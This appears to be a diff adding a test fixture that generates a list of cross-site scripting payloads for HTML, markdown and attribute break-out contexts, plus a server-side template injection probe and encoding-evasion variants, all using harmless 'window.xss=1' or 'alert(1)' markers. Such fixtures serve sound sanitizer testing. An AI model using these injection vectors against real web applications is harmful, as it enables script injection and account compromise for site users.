@@ -1,0 +1,86 @@
+"""Hostile texts: each sets `window.xss`, or opens a dialog, where it runs."""
+
+from itertools import product
+
+_RUN = "window.xss=1"
+
+_ELEMENTS = (
+    "<script>{run}</script>",
+    "<ScRiPt >{run}</sCrIpT>",
+    "<script src='data:text/javascript,{run}'></script>",
+    "<img src=x onerror={run}>",
+    '<img src="x" onerror="{run}">',
+    "<img src=x onerror\n=\n{run}>",
+    "<svg onload={run}>",
+    "<svg><script>{run}</script></svg>",
+    "<svg><animate onbegin={run} attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
+    "<body onload={run}>",
+    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
+    "<iframe src='javascript:parent.{run}'></iframe>",
+    "<object data='javascript:{run}'></object>",
+    "<embed src='javascript:{run}'>",
+    "<details open ontoggle={run}>",
+    "<input autofocus onfocus={run}>",
+    "<select autofocus onfocus={run}></select>",
+    "<video><source onerror={run}></video>",
+    "<audio src=x onerror={run}>",
+    "<marquee onstart={run}>",
+    "<link rel=stylesheet href='data:text/css,*{{color:red}}'>",
+    "<style>@import 'javascript:{run}';</style>",
+    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
+    "<base href='javascript:{run}//'>",
+    "<form action='javascript:{run}'><button autofocus>x</button></form>",
+    "<template><script>{run}</script></template><img src=x onerror={run}>",
+    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<textarea></textarea><img src=x onerror={run}>",
+    "<title></title><script>{run}</script>",
+    "<xmp></xmp><img src=x onerror={run}>",
+    "<!--><img src=x onerror={run}>-->",
+    "<![CDATA[><img src=x onerror={run}>]]>",
+    "<a title='<table><img src=x onerror={run}>'>x</a>",
+    "<a title='<pre><img src=x onerror={run}>' href=x>x</a>",
+    "<td title='<img src=x onerror={run}>' style='text-align:left;background:url(javascript:{run})'>x</td>",
+    "<p><img alt='><script>{run}</script>' src=x></p>",
+)
+
+_MARKDOWN = (
+    "[x](javascript:{run})",
+    "[x](JaVaScRiPt:{run})",
+    "[x](java\tscript:{run})",
+    "[x](data:text/html,<script>{run}</script>)",
+    "![x](javascript:{run})",
+    '![x" onerror="{run}](x.png)',
+    '[x](x "onmouseover={run}")',
+    "[x]: javascript:{run}\n\n[x]",
+    "<javascript:{run}>",
+    "`<script>{run}</script>`",
+    "```html\n</code></pre><script>{run}</script>\n```",
+    "| <script>{run}</script> | b |\n| --- | --- |\n| <img src=x onerror={run}> | c |",
+    "# <img src=x onerror={run}>",
+    ":::note <script>{run}</script>\n<script>{run}</script>\n:::",
+    "x[^1]\n\n[^1]: <script>{run}</script>",
+)
+
+_BREAKING_OUT = (
+    '"><script>{run}</script>',
+    "'><script>{run}</script>",
+    '" autofocus onfocus="{run}',
+    "' autofocus onfocus='{run}",
+    "</title><script>{run}</script>",
+    "</script><script>{run}</script>",
+    "</textarea><script>{run}</script>",
+    "]]></title><script>{run}</script>",
+    "{{{{ {run} }}}}",
+    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
+    "${{{run}}}",
+    "\u2028</script><script>{run}</script>",
+    "%3Cscript%3E{run}%3C/script%3E",
+    "&lt;script&gt;{run}&lt;/script&gt;",
+    "&#60;img src=x onerror={run}&#62;",
+    "＜script＞{run}＜/script＞",
+    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
+    "\x00<script>{run}</script>",
+)
+
+PAYLOADS = [pattern.format(run=run) for pattern, run in product((*_ELEMENTS, *_MARKDOWN, *_BREAKING_OUT), (_RUN, "alert(1)"))]
